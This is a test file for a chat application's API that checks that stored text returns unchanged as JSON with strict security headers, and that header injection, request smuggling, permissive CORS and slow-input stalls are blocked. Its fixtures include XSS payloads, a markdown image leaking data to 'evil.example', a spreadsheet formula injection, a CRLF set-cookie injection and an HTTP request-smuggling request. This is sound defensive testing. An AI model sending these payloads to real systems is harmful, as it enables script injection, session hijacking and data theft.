import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { type AddressInfo, connect } from 'node:net';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import type { Connection, Conversation, ModelList, User } from '@chatbox/contracts';
import { type MockModel, startMockModel } from '../../../tools/mock-model/server.ts';
import { aUser, type Person } from './harness/people.ts';
import { startTestApp, type TestApp } from './harness/test-app.ts';
import { aChat, follow, readToEnd } from './support/chat.ts';

/** The browser's side of these is in apps/e2e; here: what is kept is what was written, and nothing is ever sent as a page. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/?leak=1)',
  '```"><script>alert(1)</script>\nx\n```',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '$\\href{javascript:alert(1)}{x}$',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
  '</script><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202etxt.exe\u2066 bidi',
  '=HYPERLINK("https://evil.example","x")',
  `'"\`;--`,
  'a\u2028b\u2029c\u0085d',
];
const LINES =
  'one\r\n\r\nevent: end\r\ndata: {"type":"end"}\r\n\r\nid: 9.9\rretry: 0\n\n: x\u2028event: end\u2029data: x\u0085\u000b\u000c';

let model: MockModel;
let app: TestApp;
let owner: Person;
let upstream: Server;
beforeAll(async () => {
  model = await startMockModel();
  app = await startTestApp({ OPENAI_BASE_URL: `${model.url}/v1`, OPENAI_API_KEY: 'x' });
  owner = await aUser(app);
});
afterAll(async () => {
  await app.close();
  await model.close();
  upstream?.close();
  upstream?.closeAllConnections();
});

const isData = (headers: Headers): void => {
  expect(headers.get('content-type')).toMatch(/^application\/(problem\+)?json/);
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  expect(headers.get('content-security-policy')).toContain("default-src 'none'");
  expect(headers.get('x-frame-options')).toBe('DENY');
};

describe('HARDENING 22 and 24: what is shown later is kept as it was written, and answered as data', () => {
  it.each(CORPUS)('%j', async (text) => {
    const chat = await aChat(app, owner);
    const path = `/api/v1/conversations/${chat.id}`;
    const { token } = owner;
    const titled = await app.api<Conversation>('PATCH', path, { token, body: { title: text, systemPrompt: text } });
    expect([titled.body.title, titled.body.systemPrompt]).toEqual([text, text]);
    isData(titled.headers);
    const named = await app.api<User>('PATCH', '/api/v1/auth/me', { token, body: { name: text } });
    expect(named.body.name).toBe(text);
    const { generation } = await chat.ask(text, { model: 'openai/mock-small' });
    await readToEnd(app, token, generation.id);
    const listed = await app.api<{ items: { content: string }[] }>('GET', `${path}/messages`, { token });
    expect(listed.body.items[0]?.content).toBe(text);
    isData(listed.headers);
    const kept = await app.api<Connection>('POST', '/api/v1/admin/connections', {
      token,
      body: { name: text.slice(0, 100), kind: 'openai', baseUrl: 'https://models.example/v1', key: 'x' },
    });
    expect(kept.body.name).toBe(text.slice(0, 100));
    expect(kept.body.slug).toMatch(/^[a-z0-9][a-z0-9-]*$/);
    await app.api('DELETE', `/api/v1/admin/connections/${kept.body.id}`, { token });
  });

  it('names of models, which a server chose', async () => {
    upstream = createServer((_request, response) => {
      response.setHeader('content-type', 'application/json');
      response.end(JSON.stringify({ object: 'list', data: CORPUS.map((id) => ({ id, name: id, object: 'model' })) }));
    }).listen(0, '127.0.0.1');
    await once(upstream, 'listening');
    const body = {
      name: 'Odd',
      kind: 'openai',
      baseUrl: `http://127.0.0.1:${(upstream.address() as AddressInfo).port}/v1`,
    };
    await app.api('POST', '/api/v1/admin/connections', { token: owner.token, body });
    const { headers, body: list } = await app.api<ModelList>('GET', '/api/v1/models', { token: owner.token });
    isData(headers);
    expect(list.items.map(({ id }) => id)).toContain(`odd/${CORPUS[0]}`);
  });

  it('what is refused comes back as data too, and never as a page', async () => {
    const { token } = owner;
    for (const text of CORPUS) {
      const asked = encodeURIComponent(text);
      for (const answer of [
        await app.api('GET', `/api/v1/${asked}`, { token, headers: { accept: 'text/html' } }),
        await app.api('GET', `/api/v1/conversations/${asked}`, { token, headers: { accept: 'text/html' } }),
        await app.api('GET', `/api/v1/conversations?cursor=${asked}`, { token, headers: { accept: 'text/html' } }),
        await app.api('POST', '/api/v1/conversations', { token, body: { model: text, [text]: text } }),
      ]) {
        expect(answer.status).toBeGreaterThanOrEqual(400);
        expect(answer.status).toBeLessThan(500);
        isData(answer.headers);
      }
    }
  });
});

describe('HARDENING 29: line breaks', () => {
  it('in an answer stay in its events, and none of them becomes one', async () => {
    const chat = await aChat(app, owner);
    const { generation } = await chat.ask(`[[text:${LINES}]]`, { model: 'openai/mock-small' });
    const screen = await readToEnd(app, owner.token, generation.id);
    expect(screen.text).toBe(LINES);
    expect(screen.end?.status).toBe('completed');
    // Byte by byte: every line of the stream is one that we wrote.
    const answer = await fetch(`${app.url}/api/v1/generations/${generation.id}/events`, {
      headers: { authorization: `Bearer ${owner.token}` },
    });
    const lines = (await answer.text()).split(/\r\n|\r|\n/);
    for (const line of lines)
      expect(line).toMatch(/^(id: \d+\.\d+|event: (snapshot|delta|reset|end|heartbeat)|data: \{.*\}|)$/s);
    expect(lines.filter((line) => line === 'event: end')).toHaveLength(1);
    const events: string[] = [];
    for await (const event of follow(app, owner.token, generation.id)) events.push(event.type);
    expect(events.filter((type) => type === 'end')).toHaveLength(1);
  });

  it('in a header of a request do not reach a header of the answer', async () => {
    for (const id of ['a\tb', 'a%0d%0aset-cookie: x=1', 'ü', 'x'.repeat(65), '"quoted"', 'a b']) {
      const socket = connect(Number(new URL(app.url).port), '127.0.0.1');
      socket.write(`GET /health/live HTTP/1.1\r\nHost: x\r\nX-Request-Id: ${id}\r\nConnection: close\r\n\r\n`);
      const [chunk] = await once(socket, 'data');
      expect(String(chunk)).toMatch(/x-request-id: [0-9a-f-]{36}\r\n/);
      expect(String(chunk)).not.toMatch(/set-cookie/i);
      socket.destroy();
    }
  });

  it('in the head of a request are two requests to nobody', async () => {
    const socket = connect(Number(new URL(app.url).port), '127.0.0.1');
    const smuggled = `GET /api/v1/auth/me HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${owner.token}\r\n\r\n`;
    socket.write(
      `POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
    );
    let all = '';
    for await (const chunk of socket) all += String(chunk);
    expect(all).toMatch(/^HTTP\/1\.1 400/);
    expect(all).not.toContain(owner.email);
  });
});

describe('headers of every answer', () => {
  it('say that it is data, over plain HTTP without HSTS', async () => {
    for (const [method, path] of [
      ['GET', '/health/live'],
      ['GET', '/api/v1/setup'],
      ['GET', '/api/v1/auth/me'],
      ['GET', `/${randomUUID()}`],
      ['DELETE', '/api/v1/setup'],
      ['POST', '/api/v1/auth/login'],
    ] as const) {
      const { headers } = await app.api(method, path, method === 'POST' ? { body: '{' } : {});
      isData(headers);
      expect(headers.get('referrer-policy')).toBe('no-referrer');
      expect(headers.get('cache-control')).toBe('no-store');
      expect(headers.get('cross-origin-resource-policy')).toBe('same-origin');
      expect(headers.get('cross-origin-opener-policy')).toBe('same-origin');
      expect(headers.get('strict-transport-security')).toBeNull();
      expect(headers.get('x-powered-by')).toBeNull();
      expect(headers.get('server')).toBeNull();
    }
  });

  it('keep a browser to https where it came by https, and believe that only of a proxy', async () => {
    const encrypted = { headers: { 'x-forwarded-proto': 'https' } };
    const answer = await app.api('GET', '/api/v1/setup', encrypted);
    expect(answer.headers.get('strict-transport-security')).toMatch(/max-age=31536000/);
    const apart = await startTestApp({ TRUSTED_PROXIES: '10.0.0.1' });
    try {
      expect((await apart.api('GET', '/api/v1/setup', encrypted)).headers.get('strict-transport-security')).toBeNull();
    } finally {
      await apart.close();
    }
  });

  it('let other origins read only where the operator named them', async () => {
    const friends = await startTestApp({ CORS_ORIGIN: 'https://friend.example, http://localhost:8080' });
    const asked = { 'access-control-request-method': 'PATCH', 'access-control-request-headers': 'authorization' };
    const preflight = (from: string) =>
      friends.api('OPTIONS', '/api/v1/auth/me', { headers: { origin: from, ...asked } });
    try {
      const allowed = await preflight('https://friend.example');
      expect(allowed.headers.get('access-control-allow-origin')).toBe('https://friend.example');
      expect(allowed.headers.get('access-control-allow-methods')).toContain('PATCH');
      for (const from of [
        'https://evil.example',
        'null',
        'https://friend.example.evil.example',
        'http://friend.example',
      ])
        expect((await preflight(from)).headers.get('access-control-allow-origin')).toBeNull();
    } finally {
      await friends.close();
    }
    const { headers } = await app.api('GET', '/api/v1/setup', { headers: { origin: 'https://friend.example' } });
    expect(headers.get('access-control-allow-origin')).toBeNull();
  });
});

describe('HARDENING 39: no text keeps the process busy', () => {
  const LONG = 60_000;
  const evil: [string, (text: (own: string) => string) => Promise<unknown>][] = [
    ['an e-mail', (text) => app.api('POST', '/api/v1/auth/login', { body: { email: text('a@a.'), password: 'x' } })],
    ['a name', (text) => app.api('PATCH', '/api/v1/auth/me', { token: owner.token, body: { name: text(' \t') } })],
    [
      'a header',
      (text) =>
        app.api('GET', '/api/v1/auth/me', { headers: { authorization: `Bearer ${text('a=').slice(0, 6000)}` } }),
    ],
    [
      'a key',
      (text) => app.api('GET', '/api/v1/auth/me', { headers: { 'x-api-key': `cbx_${text('0').slice(0, 6000)}!` } }),
    ],
    [
      'a query',
      (text) => app.api('GET', `/api/v1/conversations?cursor=${text('cbx_0').slice(0, 6000)}`, { token: owner.token }),
    ],
    [
      'a message',
      (text) =>
        app.api('POST', `/api/v1/conversations/${randomUUID()}/messages`, {
          token: owner.token,
          body: { clientMessageId: randomUUID(), content: text('**_`[](') },
        }),
    ],
  ];
  it.each(evil)('%s', async (_, send) => {
    for (const piece of ['a', ' ', '-', '.', '(', 'aA0', '\u00e9\u0301', null]) {
      const text = (own: string) => (piece ?? own).repeat(LONG / (piece ?? own).length);
      const lag = monitorEventLoopDelay({ resolution: 5 });
      lag.enable();
      await send(text).catch(() => undefined);
      lag.disable();
      // Nanoseconds; the test itself runs in the same process.
      expect(lag.max / 1e6).toBeLessThan(200);
    }
  });
});
